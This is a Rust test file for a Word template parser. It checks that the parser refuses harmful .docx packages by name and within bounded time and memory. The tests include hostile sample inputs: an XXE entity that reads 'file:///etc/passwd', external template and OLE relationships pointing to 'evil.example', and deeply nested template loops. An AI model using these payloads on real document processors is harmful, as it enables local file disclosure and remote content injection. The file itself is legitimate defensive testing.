//! Files that would harm: refused by name, within bounded time and memory.

use super::*;

fn error(bytes: &[u8]) -> WordError {
    match WordTemplate::open(bytes) {
        Err(error) => error,
        Ok(_) => panic!("accepted"),
    }
}

#[test]
fn what_is_no_word_file() {
    assert!(matches!(error(b""), WordError::Package(_)));
    assert!(matches!(error(b"<html>"), WordError::Package(_)));
    let mut package = Package::default();
    package.parts.insert("a.txt".into(), b"x".to_vec());
    assert!(matches!(error(&package.write().unwrap()), WordError::NotWord(_)));
    let sheet = TYPES.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main");
    package.parts.insert("[Content_Types].xml".into(), sheet.into_bytes());
    assert_eq!(error(&package.write().unwrap()), WordError::NotWord("spreadsheetml".to_owned()));
}

#[test]
fn macros_and_what_is_fetched_from_elsewhere() {
    let types = TYPES.replace("</Types>", "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
    let bytes = file_with(&p(&["x"]), &[("[Content_Types].xml", &types), ("word/vbaProject.bin", "x")]);
    assert!(matches!(error(&bytes), WordError::Active { .. }));
    let relation = |kind: &str| {
        format!(
            "<Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://x/{kind}\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>"
        )
    };
    for kind in ["attachedTemplate", "image", "oleObject", "subDocument", "frame"] {
        let bytes = file_with(&p(&["x"]), &[("word/_rels/document.xml.rels", &relation(kind))]);
        assert!(matches!(error(&bytes), WordError::Active { .. }), "{kind}");
    }
    let bytes = file_with(&p(&["x"]), &[("word/_rels/document.xml.rels", &relation("hyperlink"))]);
    assert!(WordTemplate::open(&bytes).is_ok());
}

#[test]
fn entities_and_torn_xml() {
    let bomb = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document><w:body>&a;</w:body></w:document>";
    let bytes = file_with("", &[("word/document.xml", bomb)]);
    assert!(matches!(error(&bytes), WordError::Xml { .. }));
    let bytes = file_with("", &[("word/document.xml", "<w:document><w:body>")]);
    assert!(matches!(error(&bytes), WordError::Xml { .. }));
}

#[test]
fn ten_thousand_loops_in_each_other() {
    let text = p(&[&format!("{}x{}", "{% for a in x %}".repeat(10_000), "{% endfor %}".repeat(10_000))]);
    assert!(matches!(error(&file(&text)), WordError::Tags(_)));
}

#[test]
fn a_loop_without_end_stops() {
    let text = p(&["{% for a in range(9999) %}{% for b in range(9999) %}{{ b }}{% endfor %}{% endfor %}"]);
    let found = failure(&text, json!({}));
    assert!(found[0].trouble.to_string().contains("fuel"), "{found:?}");
}
